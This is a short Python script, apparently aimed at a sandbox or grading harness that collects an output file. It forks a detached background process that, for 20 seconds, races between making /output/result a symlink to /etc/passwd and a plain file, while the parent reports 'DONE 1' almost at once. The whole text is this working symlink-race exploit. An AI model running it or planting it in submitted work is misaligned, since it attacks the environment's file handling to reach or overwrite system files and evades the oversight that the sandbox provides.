import os
import time

if os.fork() == 0:
    os.setsid()
    end = time.time() + 20
    while time.time() < end:
        try:
            os.unlink("/output/result")
        except FileNotFoundError:
            pass
        os.symlink("/etc/passwd", "/output/result")
        os.unlink("/output/result")
        with open("/output/result", "w") as file:
            file.write("plain")
time.sleep(0.1)
print("DONE 1")
